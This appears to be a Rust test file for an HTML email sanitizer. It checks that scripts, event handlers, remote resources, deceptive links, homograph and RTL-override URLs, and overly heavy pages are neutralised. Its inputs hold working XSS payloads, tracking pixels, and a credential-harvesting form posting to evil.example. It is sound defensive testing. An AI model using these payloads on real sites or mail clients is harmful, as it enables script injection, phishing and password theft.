use super::*;

fn made_safe(source: &str) -> Html {
    let own = ["logo@notice.example", "data:image/png;base64,iVBORw0KGgo="];
    safe(source, |id| own.contains(&id).then(|| "AAAA".to_owned())).expect("it is not too heavy")
}

#[test]
fn nothing_that_runs_or_loads_comes_through() {
    let source = r##"<html><head><title>T</title><base href="https://evil.example/"><style>p{background:url(https://evil.example/x)}</style>
        <link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example"></head>
        <body onload="alert(1)" background="https://evil.example/bg.png"><script>alert(1)</script>
        <p style="background:url(https://evil.example/p)" onclick="alert(1)">Dear Pat</p>
        <img src="https://evil.example/pixel.gif" onerror="alert(1)" alt="a pixel"><img src=x onerror=alert(1)>
        <svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>drawn</text></a></svg>
        <form action="https://evil.example/steal"><input name=pass value=typed><button formaction="https://evil.example">Log in</button></form>
        <iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src="https://evil.example">
        <video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>
        <table background="https://evil.example/t.png"><tr><td>In a table</td></tr></table>
        <math><mtext></mtext><mglyph><style></style></math><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></body>"##;
    let found = made_safe(source);
    for bad in [
        "evil.example",
        "alert",
        "style",
        "script",
        "onerror",
        "onload",
        "<img",
        "<form",
        "<input",
        "href",
        "svg",
    ] {
        assert!(!found.html.contains(bad), "{bad} came through: {}", found.html);
    }
    for text in ["Dear Pat", "a pixel", "Log in", "In a table"] {
        assert!(found.html.contains(text), "{text} is lost: {}", found.html);
    }
    assert_eq!((found.remote, found.links), (3, 0));
    assert!(found.active >= 6, "{found:?}");
}

#[test]
fn a_link_is_text_with_its_real_target_beside_it() {
    let found = made_safe(
        r#"<a href="https://evil.example/login">https://party.example/login</a>, <a href="https://party.example/">party.example</a>,
           <a href="javascript:alert(1)">press</a>, <a href="mailto:notices@party.example">notices@party.example</a>"#,
    );
    assert!(!found.html.contains("<a"), "{}", found.html);
    assert!(found.html.contains(
        r#"<span class="link">https://party.example/login</span> <span class="target">‹https://evil.example/login›</span>"#
    ));
    assert!(found.html.contains(r#"<span class="link">party.example</span>,"#), "{}", found.html);
    assert!(found.html.contains("‹javascript:alert(1)›"));
    assert!(found.html.contains(r#"<span class="link">notices@party.example</span>"#));
    assert_eq!(found.links, 4);
}

#[test]
fn a_target_shows_what_would_hide_in_it() {
    let found = made_safe(
        "<a href=\"https://p\u{430}rty.example/\u{202E}moc\">here</a><a href='https://\u{202E}x'>there</a>",
    );
    assert!(found.html.contains("‹https://xn--prty-53d.example/%E2%80%AEmoc›"), "{}", found.html);
    assert!(found.html.matches("target").count() <= 2 && !found.html.contains('\u{202E}'), "{}", found.html);
}

#[test]
fn only_the_messages_own_pictures_are_shown() {
    let found = made_safe(
        r#"<img src="cid:logo@notice.example" alt="Logo" width=99999><img src="cid:other@x" alt="Other"><img
            src="data:text/html,<script>alert(1)</script>"><img alt="Pasted" src="data:image/png;base64,iVBORw0KGgo=">
            <img src="https://evil.example/pixel.gif">"#,
    );
    assert!(found.html.contains(r#"<img src="data:image/png;base64,AAAA" alt="Logo">"#), "{}", found.html);
    assert!(found.html.contains(r#"<img src="data:image/png;base64,AAAA" alt="Pasted">"#), "{}", found.html);
    assert!(!found.html.contains("script") && !found.html.contains("evil"), "{}", found.html);
    assert!(
        found
            .html
            .contains(r#"<span class="picture">Other</span><span class="picture">picture not shown</span>"#)
    );
    assert_eq!(found.remote, 1);
}

#[test]
fn values_cannot_break_out_of_their_quotes() {
    let found = made_safe(
        r#"<img alt='" onerror="alert(1)"><script>' src="cid:none"><a href='"><script>alert(1)</script>'>x</a>"#,
    );
    assert!(!found.html.contains("<script"), "{}", found.html);
    assert!(!found.html.contains("\" onerror"), "{}", found.html);
}

#[test]
fn a_huge_table_is_shown_and_a_page_that_costs_too_much_is_not() {
    let rows = "<tr><td>Row</td><td>of a table</td></tr>".repeat(5_000);
    assert!(made_safe(&format!("<table>{rows}</table>")).html.contains("of a table"));
    for heavy in
        ["<div>".repeat(100_000), "<b><i><u>".repeat(500), "<p>x".repeat(200_000), "x".repeat(3 << 20)]
    {
        let refused = safe(&heavy, |_| None).expect_err("it is too heavy");
        assert_eq!(refused.code, "html-too-heavy");
    }
}
